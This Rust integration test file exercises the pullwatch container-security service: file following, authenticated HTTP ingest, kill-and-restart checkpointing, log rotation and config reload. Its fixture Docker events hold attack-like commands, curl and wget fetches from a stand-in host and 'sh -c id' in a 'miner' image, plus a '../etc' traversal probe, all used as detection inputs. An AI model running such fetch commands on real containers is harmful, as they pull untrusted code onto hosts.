//! `pullwatch run` driven as users run it: the real binary following real files while
//! they are written, taking pushes over real HTTP, killed with SIGKILL and restarted,
//! reloaded with SIGHUP. Every test compares against what `pullwatch scan` gives for
//! the same records, ids included.

mod common;

use common::running::{wait_until, Running};

use serde_json::Value;
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

const BIN: &str = env!("CARGO_BIN_EXE_pullwatch");

fn examples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples")
}

/// A running `pullwatch run`.
struct Service(Running);

impl std::ops::Deref for Service {
    type Target = Running;
    fn deref(&self) -> &Running {
        &self.0
    }
}

impl Service {
    fn start(args: &[&str]) -> Service {
        let mut argv = vec!["run"];
        argv.extend_from_slice(args);
        Service(Running::start(&argv))
    }

    /// The address `--listen 127.0.0.1:0` bound.
    fn addr(&self) -> String {
        self.listening("http")
    }

    /// The address the service says it listens on with `scheme`.
    fn listening(&self, scheme: &str) -> String {
        self.wait_for_line(&format!("pullwatch: listening on {scheme}://"))
    }

    /// SIGTERM, then the exit status.
    fn stop(mut self) -> (i32, String) {
        self.0.stop_within(Duration::from_secs(30))
    }

    fn kill9(mut self) {
        self.0.kill9();
    }
}

fn alerts_in(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("one JSON alert per line"))
        .collect()
}

/// What identifies an alert for these comparisons: id, rule, severity and entity.
fn keys(alerts: &[Value]) -> Vec<String> {
    let mut v: Vec<String> = alerts
        .iter()
        .map(|a| {
            format!(
                "{} {} {} {}",
                a["id"], a["rule"], a["severity"], a["entity"]
            )
        })
        .collect();
    v.sort();
    v
}

fn scan(paths: &[&Path]) -> Vec<Value> {
    scan_with(&[], paths)
}

/// The example files in an order whose records lie within the allowed lateness of each
/// other as they are written: the container telemetry, then the cloud's.
fn example_files() -> Vec<PathBuf> {
    [
        "docker/events.jsonl",
        "k8s/audit.jsonl",
        "k8s/kubelet-events.jsonl",
        "node/falco.jsonl",
        "node/tetragon.jsonl",
        "cloud/cloudtrail.json",
        "cloud/vpc-flow.log",
    ]
    .iter()
    .map(|f| examples().join(f))
    .collect()
}

fn append(path: &Path, bytes: &[u8]) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .unwrap();
    f.write_all(bytes).unwrap();
}

/// Writes `src` into `dst` a few lines at a time, with pauses, as a sensor would.
fn trickle(src: &Path, dst: &Path, lines_per_write: usize, pause: Duration) {
    let text = std::fs::read(src).unwrap();
    let mut lines = text.split_inclusive(|&b| b == b'\n').peekable();
    while lines.peek().is_some() {
        let chunk: Vec<u8> = lines
            .by_ref()
            .take(lines_per_write)
            .flatten()
            .copied()
            .collect();
        append(dst, &chunk);
        std::thread::sleep(pause);
    }
}

#[test]
fn files_written_line_by_line_give_the_alerts_scan_gives() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    let corpus = dir.path().join("corpus.jsonl");
    let gen = Command::new(BIN)
        .args([
            "gen",
            "--seed",
            "11",
            "--records",
            "6000",
            "--chains",
            "3",
            "--out",
        ])
        .arg(&corpus)
        .output()
        .unwrap();
    assert!(gen.status.success());
    let out = dir.path().join("alerts.jsonl");
    let pattern = input.join("*").display().to_string();
    let svc = Service::start(&[
        "--follow",
        &pattern,
        "--state-dir",
        &dir.path().join("state").display().to_string(),
        "--output",
        &out.display().to_string(),
        "--idle-timeout",
        "1s",
    ]);
    // The corpus is dated earlier the same day than the examples: written first, as a
    // sensor's records arrive in time.
    let mut sources: Vec<PathBuf> = vec![corpus.clone()];
    sources.extend(example_files());
    for src in &sources {
        let name = src.file_name().unwrap();
        trickle(src, &input.join(name), 7, Duration::from_millis(3));
    }
    let mut paths: Vec<&Path> = sources.iter().map(PathBuf::as_path).collect();
    paths.sort();
    let want = scan(&paths);
    assert_eq!(
        want.len(),
        4 + 3,
        "the examples' 4 alerts and the corpus' 3 chains"
    );
    assert!(
        wait_until(Duration::from_secs(60), || alerts_in(&out).len()
            >= want.len()),
        "{} of {} alerts: {}",
        alerts_in(&out).len(),
        want.len(),
        svc.stderr()
    );
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(keys(&alerts_in(&out)), keys(&want), "{stderr}");
    assert!(stderr.contains("skipped: none"), "{stderr}");
}

/// One HTTP/1.1 request over a fresh connection: (status, body).
fn http(addr: &str, method: &str, path: &str, body: &[u8], token: Option<&str>) -> (u16, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\n{auth}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes()).unwrap();
    let _ = s.write_all(body);
    let mut resp = Vec::new();
    let _ = s.read_to_end(&mut resp);
    let text = String::from_utf8_lossy(&resp).into_owned();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status in {text:?}"));
    let body = text
        .split_once("\r\n\r\n")
        .map_or("", |(_, b)| b)
        .to_string();
    (status, body)
}

#[test]
fn records_pushed_over_http_give_the_alerts_scan_gives() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("alerts.jsonl");
    let token = dir.path().join("token");
    std::fs::write(&token, "s3cret\n").unwrap();
    let svc = Service::start(&[
        "--listen",
        "127.0.0.1:0",
        "--token-file",
        &token.display().to_string(),
        "--state-dir",
        &dir.path().join("state").display().to_string(),
        "--output",
        &out.display().to_string(),
        "--idle-timeout",
        "1s",
    ]);
    let addr = svc.addr();
    assert!(wait_until(Duration::from_secs(10), || http(
        &addr, "GET", "/readyz", b"", None
    )
    .0 == 200));
    let files = example_files();
    for (i, f) in files.iter().enumerate() {
        // The cloud's records come once the container records are read.
        if f.extension().is_some_and(|e| e == "json") {
            std::thread::sleep(Duration::from_millis(1500));
        }
        let stem = f.file_stem().unwrap().to_string_lossy().replace('.', "_");
        let body = std::fs::read(f).unwrap();
        let (status, answer) = http(
            &addr,
            "POST",
            &format!("/v1/ingest?source={stem}"),
            &body,
            Some("s3cret"),
        );
        assert_eq!(status, 200, "{f:?} (#{i}): {answer}");
        assert!(answer.contains("\"accepted\":"), "{answer}");
    }
    let want = scan(&files.iter().map(PathBuf::as_path).collect::<Vec<_>>());
    assert_eq!(want.len(), 4);
    assert!(
        wait_until(Duration::from_secs(30), || alerts_in(&out).len()
            >= want.len()),
        "{}",
        svc.stderr()
    );
    let (status, metrics) = http(&addr, "GET", "/metrics", b"", None);
    assert_eq!(status, 200);
    assert!(
        metrics.contains("pullwatch_records_decoded_total{format=\"docker-events\"} 13"),
        "{metrics}"
    );
    assert!(
        metrics.contains("pullwatch_http_records_accepted_total"),
        "{metrics}"
    );
    // Each pushing source is read from a spool of its own, and counted as such.
    let events_source = metrics
        .lines()
        .find(|l| {
            l.starts_with("pullwatch_source_lines_read_total{") && l.contains("ingest-events-")
        })
        .unwrap_or_else(|| panic!("no per-source count for the docker events: {metrics}"));
    assert!(events_source.ends_with(" 13"), "{events_source}");
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(keys(&alerts_in(&out)), keys(&want));
}

#[test]
fn http_ingest_is_bounded_and_guarded() {
    let dir = tempfile::tempdir().unwrap();
    let token = dir.path().join("token");
    std::fs::write(&token, "s3cret").unwrap();
    let svc = Service::start(&[
        "--listen",
        "127.0.0.1:0",
        "--token-file",
        &token.display().to_string(),
        "--max-body",
        "1K",
        "--max-backlog",
        "4K",
        "--state-dir",
        &dir.path().join("state").display().to_string(),
    ]);
    let addr = svc.addr();
    assert_eq!(http(&addr, "GET", "/healthz", b"", None).0, 200);
    let line = br#"{"Type":"container","Action":"start","Actor":{"ID":"abc","Attributes":{"image":"x"}},"timeNano":5}"#;
    assert_eq!(http(&addr, "POST", "/v1/ingest", line, None).0, 401);
    assert_eq!(
        http(&addr, "POST", "/v1/ingest", line, Some("wrong")).0,
        401
    );
    assert_eq!(
        http(&addr, "POST", "/v1/ingest", line, Some("s3cret")).0,
        200
    );
    assert_eq!(
        http(&addr, "POST", "/v1/ingest", &[b' '; 2048], Some("s3cret")).0,
        413
    );
    assert_eq!(
        http(
            &addr,
            "POST",
            "/v1/ingest?source=../etc",
            line,
            Some("s3cret")
        )
        .0,
        400
    );
    let (_, metrics) = http(&addr, "GET", "/metrics", b"", None);
    assert!(
        metrics.contains("pullwatch_http_rejected_total{reason=\"unauthorized\"} 2"),
        "{metrics}"
    );
    assert!(
        metrics.contains("pullwatch_http_rejected_total{reason=\"too large\"} 1"),
        "{metrics}"
    );
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
}

/// A service taking pushes on a free port, its state under `dir`.
fn listening(dir: &Path) -> Service {
    Service::start(&[
        "--listen",
        "127.0.0.1:0",
        "--state-dir",
        &dir.join("state").display().to_string(),
    ])
}

/// Shippers stream large pushes (chunked transfer encoding), and hyper hands a body over
/// in the frames it arrived in: records cut across frames, even mid-line, are read whole,
/// and a pretty-printed document cut across frames is still one record.
#[test]
fn a_body_cut_across_frames_mid_line_is_read_whole() {
    let dir = tempfile::tempdir().unwrap();
    let svc = listening(dir.path());
    let addr = svc.addr();
    let chunked = |path: &str, body: &[u8], cut: usize| {
        let mut s = TcpStream::connect(&addr).unwrap();
        s.set_nodelay(true).unwrap();
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {addr}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        );
        s.write_all(head.as_bytes()).unwrap();
        for piece in body.chunks(cut) {
            s.write_all(format!("{:x}\r\n", piece.len()).as_bytes())
                .unwrap();
            s.write_all(piece).unwrap();
            s.write_all(b"\r\n").unwrap();
            s.flush().unwrap();
            // Apart in time, so that they reach the service as frames of their own.
            std::thread::sleep(Duration::from_millis(2));
        }
        s.write_all(b"0\r\n\r\n").unwrap();
        let mut resp = String::new();
        let _ = s.read_to_string(&mut resp);
        resp
    };
    let events = std::fs::read(examples().join("docker/events.jsonl")).unwrap();
    let lines = events.iter().filter(|&&b| b == b'\n').count() as u64;
    let resp = chunked("/v1/ingest?source=cut", &events, 97);
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
    assert!(
        resp.contains(&format!("{{\"accepted\":{lines}}}")),
        "{resp}"
    );
    let pretty = b"{\n  \"Type\": \"container\", \"Action\": \"start\",\n  \"Actor\": {\"ID\": \"f00d\", \"Attributes\": {\"image\": \"x\"}},\n  \"timeNano\": 5\n}\n";
    let resp = chunked("/v1/ingest?source=pretty", pretty, 11);
    assert!(resp.contains("{\"accepted\":1}"), "{resp}");
    assert!(
        wait_until(Duration::from_secs(20), || decoded(&addr, "docker-events")
            == 14),
        "{}",
        svc.stderr()
    );
    let (_, metrics) = http(&addr, "GET", "/metrics", b"", None);
    assert!(
        !metrics.contains("pullwatch_records_skipped_total"),
        "{metrics}"
    );
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
}

/// Every `?source=` name holds a file and a clock for the service's life: a client
/// inventing names cannot open more than the limit, and the senders already known go on.
#[test]
fn http_ingest_takes_a_bounded_number_of_source_names() {
    let dir = tempfile::tempdir().unwrap();
    let svc = listening(dir.path());
    let addr = svc.addr();
    let line = br#"{"Type":"container","Action":"start","Actor":{"ID":"abc","Attributes":{"image":"x"}},"timeNano":5}"#;
    let push = |name: &str| {
        http(
            &addr,
            "POST",
            &format!("/v1/ingest?source={name}"),
            line,
            None,
        )
    };
    for i in 0..256 {
        let (code, body) = push(&format!("sensor-{i}"));
        assert_eq!(code, 200, "sensor-{i}: {body}");
    }
    let (code, body) = push("sensor-256");
    assert_eq!(code, 422, "{body}");
    assert!(body.contains("at most 256 source names"), "{body}");
    assert_eq!(push("sensor-0").0, 200, "a known name still pushes");
    let (_, metrics) = http(&addr, "GET", "/metrics", b"", None);
    assert!(
        metrics.contains("pullwatch_http_rejected_total{reason=\"too many sources\"} 1"),
        "{metrics}"
    );
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
}

const CID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const T0: i64 = 1_795_165_200;

fn docker_line(secs: i64, typ: &str, action: &str, id: &str, image: &str) -> String {
    format!(
        "{{\"Type\":\"{typ}\",\"Action\":\"{action}\",\"Actor\":{{\"ID\":\"{id}\",\"Attributes\":{{\"image\":\"{image}\",\"name\":\"c\"}}}},\"scope\":\"local\",\"time\":{},\"timeNano\":{}}}\n",
        T0 + secs,
        (T0 + secs) * 1_000_000_000
    )
}

/// The first `stages` records of a chain: pull, create, start.
fn chain_start(id: &str, image: &str, stages: usize) -> String {
    [
        docker_line(0, "image", "pull", image, image),
        docker_line(2, "container", "create", id, image),
        docker_line(3, "container", "start", id, image),
    ][..stages]
        .concat()
}

/// Records of `format` the service has decoded, from its metrics.
fn decoded(addr: &str, format: &str) -> u64 {
    let (_, metrics) = http(addr, "GET", "/metrics", b"", None);
    let prefix = format!("pullwatch_records_decoded_total{{format=\"{format}\"}} ");
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0)
}

#[test]
fn a_chain_in_flight_across_kill_9_alerts_exactly_once() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.jsonl");
    let state = dir.path().join("state");
    let out = dir.path().join("alerts.jsonl");
    let args = |_: ()| {
        vec![
            "--follow".to_string(),
            log.display().to_string(),
            "--state-dir".into(),
            state.display().to_string(),
            "--output".into(),
            out.display().to_string(),
            "--idle-timeout".into(),
            "500ms".into(),
            "--checkpoint-interval".into(),
            "100ms".into(),
            "--listen".into(),
            "127.0.0.1:0".into(),
        ]
    };
    let image = "docker.io/kitty0x/toolbox:latest";
    append(&log, chain_start(CID, image, 3).as_bytes());
    let a = args(());
    let argv: Vec<&str> = a.iter().map(String::as_str).collect();
    // Pull, create and start are read and checkpointed; then the service dies.
    let svc = Service::start(&argv);
    let addr = svc.addr();
    assert!(
        wait_until(Duration::from_secs(20), || decoded(&addr, "docker-events")
            == 3),
        "{}",
        svc.stderr()
    );
    // Past the idle timeout and a checkpoint, so nothing but the kill is left to happen.
    std::thread::sleep(Duration::from_millis(800));
    assert!(state.join("checkpoint.json").exists());
    svc.kill9();
    assert!(alerts_in(&out).is_empty());
    // The exec arrives while it is down.
    append(
        &log,
        docker_line(
            40,
            "container",
            "exec_start: curl -s http://198.51.100.23/x",
            CID,
            image,
        )
        .as_bytes(),
    );
    let svc = Service::start(&argv);
    assert!(
        wait_until(Duration::from_secs(20), || alerts_in(&out).len() == 1),
        "{}",
        svc.stderr()
    );
    // Killed again right after the alert: the restart must not send it again.
    svc.kill9();
    let first = alerts_in(&out);
    assert_eq!(first.len(), 1);
    assert_eq!(first[0]["rule"], "an0691.chain");
    assert_eq!(first[0]["evidence"][0]["stage"], "pull");
    let svc = Service::start(&argv);
    // Long enough for the replay to raise it again (idle timeout, polls).
    std::thread::sleep(Duration::from_millis(2500));
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(alerts_in(&out), first, "{stderr}");
    // The alert scan gives for the same records, with the same id.
    assert_eq!(keys(&first), keys(&scan(&[log.as_path()])));
}

#[test]
fn a_chain_survives_rotation_by_rename_and_truncation() {
    for how in ["rename", "copytruncate"] {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("events.jsonl");
        let out = dir.path().join("alerts.jsonl");
        let image = "docker.io/kitty0x/toolbox:latest";
        append(&log, chain_start(CID, image, 2).as_bytes());
        let svc = Service::start(&[
            "--follow",
            &log.display().to_string(),
            "--output",
            &out.display().to_string(),
            "--idle-timeout",
            "1s",
        ]);
        std::thread::sleep(Duration::from_millis(400));
        match how {
            "rename" => {
                std::fs::rename(&log, dir.path().join("events.jsonl.1")).unwrap();
                append(
                    &log,
                    docker_line(3, "container", "start", CID, image).as_bytes(),
                );
            }
            _ => {
                std::fs::copy(&log, dir.path().join("events.jsonl.1")).unwrap();
                std::fs::OpenOptions::new()
                    .write(true)
                    .truncate(true)
                    .open(&log)
                    .unwrap();
                std::thread::sleep(Duration::from_millis(300));
                append(
                    &log,
                    docker_line(3, "container", "start", CID, image).as_bytes(),
                );
            }
        }
        append(
            &log,
            docker_line(
                40,
                "container",
                "exec_start: wget http://198.51.100.23/x",
                CID,
                image,
            )
            .as_bytes(),
        );
        assert!(
            wait_until(Duration::from_secs(20), || alerts_in(&out).len() == 1),
            "{how}: {}",
            svc.stderr()
        );
        let (code, stderr) = svc.stop();
        assert_eq!(code, 0, "{how}: {stderr}");
        let a = alerts_in(&out);
        assert_eq!(a.len(), 1, "{how}");
        let stages: BTreeSet<&str> = a[0]["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["stage"].as_str().unwrap())
            .collect();
        assert_eq!(
            stages,
            BTreeSet::from(["pull", "create", "start", "activity"]),
            "{how}"
        );
    }
}

#[test]
fn sighup_reloads_the_config_and_refuses_a_bad_one() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("events.jsonl");
    let out = dir.path().join("alerts.jsonl");
    let cfg = dir.path().join("pullwatch.yaml");
    std::fs::write(&cfg, "time_window: 15m\n").unwrap();
    append(&log, b"");
    let svc = Service::start(&[
        "--config",
        &cfg.display().to_string(),
        "--follow",
        &log.display().to_string(),
        "--output",
        &out.display().to_string(),
        "--state-dir",
        &dir.path().join("state").display().to_string(),
        "--idle-timeout",
        "500ms",
    ]);
    std::thread::sleep(Duration::from_millis(500));
    std::fs::write(&cfg, "time_window: [not a duration\n").unwrap();
    svc.signal("-HUP");
    assert!(
        wait_until(Duration::from_secs(10), || svc
            .stderr()
            .contains("reload refused")),
        "{}",
        svc.stderr()
    );
    // A good config that trusts the kitty0x images: their chains no longer alert,
    // others still do.
    std::fs::write(
        &cfg,
        "image_registry_allow_list: [docker.io/library, docker.io/kitty0x]\n",
    )
    .unwrap();
    svc.signal("-HUP");
    assert!(
        wait_until(Duration::from_secs(10), || svc
            .stderr()
            .contains("configuration reloaded")),
        "{}",
        svc.stderr()
    );
    let trusted = "docker.io/kitty0x/toolbox:latest";
    let other = "docker.io/evil0x/miner:1";
    let other_id = CID.replace("3f9c", "77aa");
    for (id, image) in [(CID, trusted), (other_id.as_str(), other)] {
        append(&log, chain_start(id, image, 3).as_bytes());
        append(
            &log,
            docker_line(30, "container", "exec_start: sh -c id", id, image).as_bytes(),
        );
    }
    assert!(
        wait_until(Duration::from_secs(20), || !alerts_in(&out).is_empty()),
        "{}",
        svc.stderr()
    );
    std::thread::sleep(Duration::from_millis(1200));
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
    let a = alerts_in(&out);
    assert_eq!(a.len(), 1, "{stderr}");
    assert_eq!(a[0]["image"]["ref"], format!("{other}"));
}

#[test]
fn run_without_a_source_is_a_usage_error() {
    let out = Command::new(BIN).arg("run").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing to read"));
}

#[test]
fn ingest_over_https_with_the_configured_certificate() {
    let dir = tempfile::tempdir().unwrap();
    let ck = rcgen::generate_simple_self_signed(vec!["127.0.0.1".to_string()]).unwrap();
    let (cert, key) = (dir.path().join("cert.pem"), dir.path().join("key.pem"));
    std::fs::write(&cert, ck.cert.pem()).unwrap();
    std::fs::write(&key, ck.key_pair.serialize_pem()).unwrap();
    let svc = Service::start(&[
        "--listen",
        "127.0.0.1:0",
        "--tls-cert",
        &cert.display().to_string(),
        "--tls-key",
        &key.display().to_string(),
        "--state-dir",
        &dir.path().join("state").display().to_string(),
    ]);
    let addr = svc.listening("https");
    let mut roots = rustls::RootCertStore::empty();
    roots.add(ck.cert.der().clone()).unwrap();
    let cfg = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
    let conn = rustls::ClientConnection::new(std::sync::Arc::new(cfg), name).unwrap();
    let mut tls = rustls::StreamOwned::new(conn, TcpStream::connect(&addr).unwrap());
    let line = br#"{"Type":"container","Action":"start","Actor":{"ID":"abc","Attributes":{"image":"x"}},"timeNano":5}"#;
    let req = format!(
        "POST /v1/ingest HTTP/1.1\r\nHost: {addr}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        line.len()
    );
    tls.write_all(req.as_bytes()).unwrap();
    tls.write_all(line).unwrap();
    let mut resp = Vec::new();
    let _ = tls.read_to_end(&mut resp);
    let resp = String::from_utf8_lossy(&resp);
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
    assert!(resp.contains("\"accepted\":1"), "{resp}");
    // Plain HTTP on the TLS port gets no HTTP answer.
    let mut plain = TcpStream::connect(&addr).unwrap();
    plain
        .set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    let _ = plain.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    let mut got = Vec::new();
    let _ = plain.read_to_end(&mut got);
    assert!(!String::from_utf8_lossy(&got).contains("200 OK"));
    let (code, stderr) = svc.stop();
    assert_eq!(code, 0, "{stderr}");
}

fn baseline_fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/baseline")
        .join(name)
}

fn scan_with(extra: &[&str], paths: &[&Path]) -> Vec<Value> {
    let mut args = vec!["--quiet"];
    args.extend_from_slice(extra);
    common::scan_json(&args, paths).alerts
}

#[test]
fn run_with_a_baseline_gives_the_alerts_scan_gives_with_it() {
    let dir = tempfile::tempdir().unwrap();
    let baseline = dir.path().join("baseline.json");
    let learn = Command::new(BIN)
        .args(["baseline", "learn", "--baseline"])
        .arg(&baseline)
        .arg(baseline_fixture("history.jsonl"))
        .output()
        .unwrap();
    assert!(
        learn.status.success(),
        "{}",
        String::from_utf8_lossy(&learn.stderr)
    );
    let sources = [
        baseline_fixture("scan-new-digest.jsonl"),
        baseline_fixture("scan-moved-tag.jsonl"),
    ];
    let paths: Vec<&Path> = sources.iter().map(PathBuf::as_path).collect();
    let b = baseline.display().to_string();
    let want = scan_with(&["--baseline", &b], &paths);
    // The baseline decides here: digests it never saw, and moved tags, alert with it
    // and not (or less) without it.
    let without = scan_with(&[], &paths);
    assert!(
        want.len() > without.len(),
        "{} alerts with the baseline, {} without",
        want.len(),
        without.len()
    );

    // Once with the flag, once with the config's `sources: baseline:`.
    for via_config in [false, true] {
        let run_dir = tempfile::tempdir().unwrap();
        let input = run_dir.path().join("in");
        std::fs::create_dir(&input).unwrap();
        let out = run_dir.path().join("alerts.jsonl");
        let pattern = input.join("*.jsonl").display().to_string();
        let state = run_dir.path().join("state").display().to_string();
        // The service's own copy: it is deleted below to see SIGHUP read it again.
        let own = run_dir.path().join("baseline.json");
        std::fs::copy(&baseline, &own).unwrap();
        let own = own.display().to_string();
        let cfg = run_dir.path().join("pullwatch.yaml");
        std::fs::write(&cfg, format!("sources:\n  baseline: {own}\n")).unwrap();
        let cfg = cfg.display().to_string();
        let out_s = out.display().to_string();
        let mut args = vec![
            "--follow",
            &pattern,
            "--state-dir",
            &state,
            "--output",
            &out_s,
            "--idle-timeout",
            "500ms",
        ];
        if via_config {
            args.extend(["--config", &cfg]);
        } else {
            args.extend(["--baseline", &own]);
        }
        let svc = Service::start(&args);
        for src in &sources {
            trickle(
                src,
                &input.join(src.file_name().unwrap()),
                1,
                Duration::from_millis(20),
            );
        }
        assert!(
            wait_until(Duration::from_secs(30), || alerts_in(&out).len()
                >= want.len()),
            "{} of {} alerts: {}",
            alerts_in(&out).len(),
            want.len(),
            svc.stderr()
        );
        // SIGHUP reads the baseline again: one that is gone is refused, and the
        // service goes on with the one it has.
        std::fs::remove_file(&own).unwrap();
        svc.signal("-HUP");
        assert!(
            wait_until(Duration::from_secs(10), || svc
                .stderr()
                .contains("reload refused")),
            "{}",
            svc.stderr()
        );
        let (code, stderr) = svc.stop();
        assert_eq!(code, 0, "{stderr}");
        assert!(stderr.contains("no such baseline"), "{stderr}");
        assert_eq!(keys(&alerts_in(&out)), keys(&want), "{stderr}");
        assert!(stderr.contains("not in the baseline"), "{stderr}");
    }

    // A baseline that is not there is the user's mistake, not an empty baseline.
    let missing = dir.path().join("nope.json").display().to_string();
    let out = Command::new(BIN)
        .args(["run", "--stdin", "--baseline", &missing])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no such baseline"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
